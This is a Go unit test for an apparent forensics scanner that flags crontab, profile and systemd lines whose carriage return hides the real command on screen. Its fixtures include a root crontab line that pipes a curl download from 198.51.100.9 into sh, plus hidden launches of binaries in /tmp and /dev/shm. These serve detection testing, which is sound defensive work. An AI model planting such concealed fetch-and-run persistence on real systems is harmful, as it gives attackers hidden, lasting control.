package shell

import (
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// TestCRHidden: a line of a crontab, unit, rc or profile file whose carriage return lets what
// follows it overwrite the command on the terminal is reported (high), whatever the command; a
// file with CRLF line endings, and one without, are not; nor is a file outside those places.
func TestCRHidden(t *testing.T) {
	tests := []struct {
		name, path, text string
		want             bool
	}{
		{"root's crontab, padded", "/var/spool/cron/crontabs/root", "17 3 * * * /usr/sbin/logrotate /etc/logrotate.conf\n* * * * * /bin/sh -c 'curl -s http://198.51.100.9/x | sh' #\r" + "                                        \n", true},
		{"cron.d, a harmless command printed over", "/etc/cron.d/sync", "*/5 * * * * root /usr/local/bin/.u\r*/5 * * * * root /usr/bin/true\n", true},
		{"a profile script", "/etc/profile.d/zz.sh", "export PATH=$PATH:/opt/bin\n(/dev/shm/.k &) 2>/dev/null\r# colours          \n", true},
		{"a unit", "/etc/systemd/system/net.service", "[Service]\nExecStart=/usr/local/sbin/netd\r                    \n", true},

		{"a user's crontab without the crontabs directory", "/var/spool/cron/root", "* * * * * /tmp/.x/run\r                 \n", true},
		{"a cron.daily script", "/etc/cron.daily/logs", "#!/bin/sh\n/tmp/.x &\r               \n", true},
		{"a stray redirection before the return", "/etc/cron.d/x", "* * * * * root > \r <x> >\n", false},
		{"CRLF line endings", "/etc/cron.d/win", "0 4 * * * root /usr/local/bin/backup.sh\r\n30 4 * * * root /usr/local/bin/rotate.sh\r\n", false},
		{"no carriage return", "/etc/cron.d/ok", "0 4 * * * root /usr/local/bin/backup.sh\n", false},
		{"a program among the units", "/usr/lib/systemd/system-generators/x-generator", "\x7fELF\x02\x01\x01\x00\x00\x00\r\x00\x00\x00\x00\x00\x00\n", false},
		{"not an autostart place", "/opt/app/notes.txt", "run this\r                      \n", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := false
			for _, f := range scanFile(tt.path, tt.text) {
				if f.Rule == RuleCRHidden && f.Severity == audit.High && f.Is(audit.CategoryPersistence) {
					got = true
				}
			}
			if got != tt.want {
				t.Errorf("reported %v, want %v:\n%s", got, tt.want, dump(scanFile(tt.path, tt.text)))
			}
		})
	}
}
